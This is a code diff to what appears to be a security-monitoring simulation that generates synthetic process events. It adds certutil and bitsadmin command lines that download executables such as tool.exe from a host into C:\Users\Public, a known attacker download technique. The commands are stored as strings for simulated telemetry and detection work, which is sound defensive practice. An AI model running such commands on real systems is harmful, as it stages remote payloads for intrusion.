@@ -5,10 +5,16 @@ from watchfloor.world.activity import Activity, Cast
 from watchfloor.world.event import Event
 
 _FILES = ("a.bin", "pack.cab", "tool.exe", "agent.msi")
+_COMMANDS = (
+    ("certutil.exe", "-urlcache -split -f {url} C:\\Users\\Public\\{file}"),
+    ("certutil.exe", "-verifyctl -split -f {url}"),
+    ("bitsadmin.exe", "/transfer sync /download {url} C:\\Users\\Public\\{file}"),
+)
 
 
 def _leaves(cast: Cast, draw: Stream) -> list[Event]:
-    tool = draw.pick(("certutil.exe", "bitsadmin.exe"))
+    (tool, how), file = draw.pick(_COMMANDS), draw.pick(_FILES)
+    asked = how.format(url=f"http://{cast.address}/{file}", file=file)
     return [
         Event(
             "",
@@ -18,7 +24,7 @@ def _leaves(cast: Cast, draw: Stream) -> list[Event]:
             cast.user,
             process=tool,
             parent="cmd.exe",
-            command=f"{tool} -f http://{cast.address}/{draw.pick(_FILES)}",
+            command=f"{tool} {asked}",
         )
     ]
 
